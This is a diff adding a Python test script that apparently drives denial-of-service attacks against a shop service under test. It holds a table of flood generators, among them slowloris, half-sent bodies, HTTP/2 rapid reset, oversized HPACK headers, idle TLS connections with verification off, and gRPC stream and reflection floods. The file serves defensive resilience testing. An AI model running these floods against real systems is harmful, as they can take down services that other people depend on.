@@ -1,0 +1,172 @@
+"""The attackers' process: `python -m tests.abuse.attack NAME PORT SECONDS ORDER_ID`. It ends by itself."""
+
+import asyncio
+import json
+import ssl
+import sys
+from collections.abc import Callable, Mapping
+from functools import partial
+
+from grpc_health.v1 import health_pb2
+from grpc_reflection.v1alpha import reflection_pb2
+from shop.order.v1 import order_pb2
+
+from bench.files import allow
+from tests.abuse.flood import Flood, Headers, Http1, Http2, Request
+
+BODY = b'{"notes":"' + b"x" * (150 * 1024)
+"""A body that the edge takes, of which the end never comes."""
+
+LARGE_PAGE = "/api/v1/products?pageSize=100&category=Large"
+SMALL_PAGE = "/api/v1/products?pageSize=20&category=Small"
+
+MANY_HALF = "more half-sent bodies than there is memory"
+
+STATUS_STREAM = "/shop.order.v1.OrderService/StreamOrderStatus"
+WATCH = "/grpc.health.v1.Health/Watch"
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+
+
+def _headers(method: str, path: str, *more: tuple[str, str]) -> Headers:
+    return [(":method", method), (":scheme", "http"), (":authority", "shop"), (":path", path), *more]
+
+
+def _grpc(path: str, *more: tuple[str, str]) -> Headers:
+    return _headers("POST", path, ("content-type", "application/grpc"), ("te", "trailers"), *more)
+
+
+def _frame(message: bytes) -> bytes:
+    return b"\0" + len(message).to_bytes(4, "big") + message
+
+
+def _http1(method: str, path: str, *headers: str) -> bytes:
+    lines = [f"{method} {path} HTTP/1.1", "Host: shop", "Content-Type: application/json", *headers]
+    return "\r\n".join([*lines, "", ""]).encode()
+
+
+def _http2(port: int, connections: int, request: Request, streams: int = 128, window: int = 65_535) -> Flood:
+    return Flood(port, connections, lambda flood: Http2(flood, request, streams, window=window), pace=20)
+
+
+def _follow(order_id: str) -> bytes:
+    return _frame(order_pb2.StreamOrderStatusRequest(order_id=order_id).SerializeToString())
+
+
+def _half_http1(port: int, order_id: str, connections: int = 600) -> Flood:
+    first = _http1("POST", "/api/v1/orders", f"Content-Length: {len(BODY) + 100}") + BODY
+    return Flood(port, connections, lambda _: Http1(first))
+
+
+def _half_http2(port: int, order_id: str) -> Flood:
+    json_type = ("content-type", "application/json")
+    return _http2(port, 40, Request(_headers("POST", "/api/v1/orders", json_type), BODY, ends=False))
+
+
+def _half_grpc(port: int, order_id: str) -> Flood:
+    message = _frame(b"x" * 150_000)[:-1]
+    return _http2(port, 40, Request(_grpc("/shop.order.v1.OrderService/CreateOrder"), message, ends=False))
+
+
+def _unread_large(port: int, order_id: str) -> Flood:
+    return _http2(port, 5, Request(_headers("GET", LARGE_PAGE), rate=20), window=0)
+
+
+def _unread_small(port: int, order_id: str) -> Flood:
+    return _http2(port, 40, Request(_headers("GET", SMALL_PAGE), rate=10), window=0)
+
+
+def _unread_http1(port: int, order_id: str) -> Flood:
+    return Flood(port, 400, lambda _: Http1(_http1("GET", LARGE_PAGE), reads=False), receive_buffer=2_048, rate=100)
+
+
+def _idle(port: int, order_id: str) -> Flood:
+    return Flood(port, 12_000, lambda _: Http1(_http1("GET", "/healthz")))
+
+
+def _idle_http2(port: int, order_id: str) -> Flood:
+    return Flood(port, 8_000, lambda flood: Http2(flood, Request(_headers("GET", "/healthz")), 0))
+
+
+def _idle_tls(port: int, order_id: str) -> Flood:
+    trust = ssl.create_default_context()
+    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
+    return Flood(port, 4_000, lambda _: Http1(_http1("GET", "/healthz")), tls=trust, pace=50)
+
+
+def _slowloris(port: int, order_id: str) -> Flood:
+    first = b"GET /api/v1/products HTTP/1.1\r\nHost: shop\r\n"
+    return Flood(port, 5_000, lambda _: Http1(first, more=b"X-More: 1\r\n"))
+
+
+def _large_headers(port: int, order_id: str) -> Flood:
+    """Each stream has 31 KiB of headers, which cost some thirty bytes: HPACK names what was sent before."""
+    large = [(f"x-{number}", "x" * 3_000) for number in range(10)]
+    json_type = ("content-type", "application/json")
+    request = Request(_headers("POST", "/api/v1/orders", json_type, *large), b"{", ends=False)
+    return _http2(port, 100, request)
+
+
+def _too_large_headers(port: int, order_id: str) -> Flood:
+    large = [(f"x-{number}", "x" * 3_000) for number in range(15)]
+    return _http2(port, 50, Request(_headers("GET", "/api/v1/products", *large)))
+
+
+def _rapid_reset(port: int, order_id: str) -> Flood:
+    return _http2(port, 20, Request(_headers("GET", SMALL_PAGE), resets=True), streams=100)
+
+
+def _status_streams(port: int, order_id: str) -> Flood:
+    return _http2(port, 30, Request(_grpc(STATUS_STREAM), _follow(order_id)))
+
+
+def _status_streams_web(port: int, order_id: str) -> Flood:
+    body = _follow(order_id)
+    first = _http1("POST", STATUS_STREAM, f"Content-Length: {len(body)}")
+    first = first.replace(b"application/json", b"application/grpc-web+proto") + body
+    return Flood(port, 3_000, lambda _: Http1(first))
+
+
+def _watches(port: int, order_id: str) -> Flood:
+    message = _frame(health_pb2.HealthCheckRequest().SerializeToString())
+    return _http2(port, 30, Request(_grpc(WATCH), message))
+
+
+def _reflections(port: int, order_id: str) -> Flood:
+    message = _frame(reflection_pb2.ServerReflectionRequest(list_services="*").SerializeToString())
+    return _http2(port, 30, Request(_grpc(REFLECTION), message, ends=False))
+
+
+def _event_streams(port: int, order_id: str) -> Flood:
+    return _http2(port, 30, Request(_headers("GET", f"/api/orders/stream?order_id={order_id}")))
+
+
+ATTACKS: Mapping[str, Callable[[int, str], Flood]] = {
+    "half-sent bodies, HTTP/1.1": _half_http1,
+    MANY_HALF: partial(_half_http1, connections=3_000),
+    "half-sent bodies, HTTP/2": _half_http2,
+    "half-sent messages, gRPC": _half_grpc,
+    "large answers not read, HTTP/1.1": _unread_http1,
+    "large answers not read, HTTP/2": _unread_large,
+    "small answers not read, HTTP/2": _unread_small,
+    "idle connections, HTTP/1.1": _idle,
+    "idle connections, HTTP/2": _idle_http2,
+    "idle connections, TLS": _idle_tls,
+    "headers that never end": _slowloris,
+    "headers of 31 KiB": _large_headers,
+    "headers of 46 KiB": _too_large_headers,
+    "streams reset at once": _rapid_reset,
+    "native status streams": _status_streams,
+    "gRPC-Web status streams": _status_streams_web,
+    "event streams": _event_streams,
+    "health watches": _watches,
+    "reflection streams": _reflections,
+}
+
+
+async def main(name: str, port: int, seconds: float, order_id: str) -> None:
+    allow(15_000)
+    print(json.dumps(await ATTACKS[name](port, order_id).run(seconds)))
+
+
+if __name__ == "__main__":
+    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]))
